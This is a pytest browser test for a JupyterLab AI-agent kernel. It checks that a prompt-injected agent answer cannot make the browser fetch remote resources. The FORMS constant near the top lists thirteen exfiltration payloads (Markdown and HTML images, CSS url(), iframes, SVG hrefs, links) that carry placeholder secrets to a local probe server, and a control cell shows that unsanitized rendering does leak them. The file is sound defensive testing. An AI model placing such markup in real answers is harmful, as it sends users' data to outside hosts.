"""Rendering is not an egress channel: in JupyterLab, in headless Chromium, an agent answer and
tool output holding every exfiltration form make zero requests to a probe server on 127.0.0.1.

The attack is shown to work without the protection: the same payload displayed as Markdown
(what the kernel used to send) from a Python cell hits the probe. The agent's answer still
reads well: headings, tables and code render, link URLs are visible text, and an image the
session itself produced is shown inline.
"""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import nbformat
import pytest

from .test_lab import CHROMIUM, CHROMIUM_ARGS, TOKEN, lab  # noqa: F401 (the fixture)
from .test_sanitize import png

#: One line per exfiltration form; every URL has its own path so the probe says which fetched.
FORMS = """\
1. Markdown image: ![chart]({probe}/md-image?d=SECRET1)
2. Reference-style image: ![usage][u]
3. HTML image: <img src="{probe}/html-img?d=SECRET2" onerror="alert(1)">
4. Picture: <picture><source srcset="{probe}/picture-source"><img src="{probe}/picture-img"></picture>
5. CSS in a style attribute: <span style="background-image:url({probe}/css-attr)">styled</span>
6. Stylesheet: <style>.jp-Notebook {{ background-image: url({probe}/css-style); }}</style>
7. Link element: <link rel="stylesheet" href="{probe}/link-element">
8. Frame: <iframe src="{probe}/iframe"></iframe>
9. Video: <video poster="{probe}/video-poster"></video>
10. Object and embed: <object data="{probe}/object"></object><embed src="{probe}/embed">
11. SVG: <svg width="10" height="10"><image href="{probe}/svg-href" width="10" height="10"/><use xlink:href="{probe}/svg-xlink#a"/></svg>
12. Autolink: <{probe}/autolink?d=SECRET3>
13. Link: [the report]({probe}/link-docs?d=SECRET4)

[u]: {probe}/ref-image?d=SECRET5
"""

ANSWER = """\
## What I found

{forms}

| file | lines |
|---|--:|
| payload.md | 15 |

```python
print("<b>not bold</b>")
```

Here is the chart I made: ![my chart](chart.png)
"""

CHART_SCRIPT = f"""\
import pathlib
pathlib.Path("chart.png").write_bytes({png(24, 12)!r})
print("wrote chart.png")
"""


class Probe:
    """An HTTP server on 127.0.0.1 that counts every request it gets."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        probe = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                probe.paths.append(self.path)
                body = png()
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def fetched(self) -> set[str]:
        return {p.split("?")[0].lstrip("/") for p in self.paths}


@pytest.fixture
def probe() -> Iterator[Probe]:
    p = Probe()
    yield p
    p.server.shutdown()
    p.server.server_close()


def write_notebook(root: Path, probe: Probe) -> str:
    forms = FORMS.format(probe=probe.url)
    (root / "payload.md").write_text(forms)
    (root / "make_chart.py").write_text(CHART_SCRIPT)
    scenario = {
        "name": "prompt-injected answer",
        "rules": [
            {
                "match": "^Summarize payload",
                "steps": [
                    {
                        "text": "Reading it.",
                        "tool_calls": [{"action": "shell", "command": "cat payload.md"}],
                    },
                    {
                        "text": "Making a chart.",
                        "tool_calls": [{"action": "shell", "command": "python3 make_chart.py"}],
                    },
                    {"text": ANSWER.format(forms=forms)},
                ],
            }
        ],
    }
    (root / "egress.rehearsal.json").write_text(json.dumps(scenario))
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {
        "name": "omnikernel",
        "display_name": "Omnigent",
        "language": "markdown",
    }
    control = (
        "%%python\nfrom IPython.display import display\n"
        "display({'text/markdown': open('payload.md').read()}, raw=True)\nprint('control shown')"
    )
    nb.cells = [
        nbformat.v4.new_code_cell("%autoapprove on"),
        nbformat.v4.new_code_cell(f"Summarize payload.md ![p]({probe.url}/prompt-image)"),
        nbformat.v4.new_code_cell("%history"),
        nbformat.v4.new_code_cell(control),
    ]
    nbformat.write(nb, root / "egress.ipynb")
    return "egress.ipynb"


def test_agent_output_makes_the_browser_fetch_nothing(lab, probe):
    if not Path(CHROMIUM).exists():
        pytest.fail("Chromium is not installed; install it with: apt-get install -y chromium")
    from playwright.sync_api import expect, sync_playwright

    name = write_notebook(lab.root, probe)
    seen_by_browser: list[str] = []
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        page = browser.new_page(viewport={"width": 1400, "height": 1000})
        page.on("request", lambda r: r.url.startswith(probe.url) and seen_by_browser.append(r.url))
        # A workspace of its own, so notebooks other tests left open stay closed.
        page.goto(f"{lab.url}/lab/workspaces/egress/tree/{name}?reset&token={TOKEN}")
        code_cells = page.locator(".jp-NotebookPanel:not(.lm-mod-hidden) .jp-CodeCell")
        expect(code_cells.first).to_be_visible(timeout=60_000)
        expect(page.get_by_text("Omnigent | Idle")).to_be_visible(timeout=90_000)

        def run_cell(index: int, shows: str) -> None:
            cell = code_cells.nth(index)
            for attempt in range(3):
                try:
                    cell.scroll_into_view_if_needed()
                    cell.locator(".jp-InputArea-editor").click()
                    page.keyboard.press("Shift+Enter")
                    expect(cell.locator(".jp-OutputArea")).to_contain_text(shows, timeout=60_000)
                    return
                except Exception:
                    if attempt == 2:
                        page.screenshot(path=str(lab.root.parent / "egress-failed.png"))
                        raise

        run_cell(0, "Auto-approval is on")
        run_cell(1, "offline rehearsal model")  # the footer: the whole turn has rendered
        run_cell(2, "Summarize payload.md")
        answer = code_cells.nth(1).locator(".jp-OutputArea")
        expect(answer).to_contain_text("Here is the chart I made")
        page.wait_for_timeout(3000)  # time for anything the page would still load
        page.screenshot(path=str(lab.root.parent / "egress.png"), full_page=True)

        # Zero requests: none reached the probe, and the browser did not even try.
        assert probe.paths == [], probe.paths
        assert seen_by_browser == [], seen_by_browser

        # It still reads well: structure renders, every URL is visible text, links are links.
        text = answer.inner_text()
        for form in (
            "md-image?d=SECRET1",
            "ref-image?d=SECRET5",
            "html-img?d=SECRET2",
            "picture-source",
            "css-attr",
            "css-style",
            "link-element",
            "iframe",
            "video-poster",
            "object",
            "embed",
            "svg-href",
            "svg-xlink",
            "autolink?d=SECRET3",
            "link-docs?d=SECRET4",
        ):
            assert f"{probe.url}/{form}" in text, form
        assert "cat payload.md" in text  # the tool call, and its output below it
        assert answer.locator("h2", has_text="What I found").count() == 1
        assert answer.locator("table td", has_text="payload.md").count() == 1
        assert answer.locator("pre", has_text='print("<b>not bold</b>")').count() == 1
        assert answer.locator(f'a[href="{probe.url}/link-docs?d=SECRET4"]').count() == 1
        remote = page.locator(
            f'img[src^="{probe.url}"], iframe, object, embed, video, picture, svg image, '
            f'link[href^="{probe.url}"], .jp-OutputArea style'
        )
        assert remote.count() == 0
        # The one image shown is the chart the agent made, inlined by the kernel.
        chart = answer.locator('img[alt="my chart"]')
        expect(chart).to_have_count(1)
        assert chart.get_attribute("src").startswith("data:image/png;base64,")
        assert chart.evaluate("img => img.complete && img.naturalWidth") == 24

        # The probe works: the same payload rendered as Markdown (as before) does hit it.
        run_cell(3, "control shown")
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline and not {"md-image", "html-img"} <= probe.fetched():
            time.sleep(0.2)
        browser.close()
    print("unsanitized control fetched:", sorted(probe.fetched()))
    assert {"md-image", "ref-image", "html-img"} <= probe.fetched()
    assert any("SECRET1" in p for p in probe.paths) and any("SECRET2" in p for p in probe.paths)
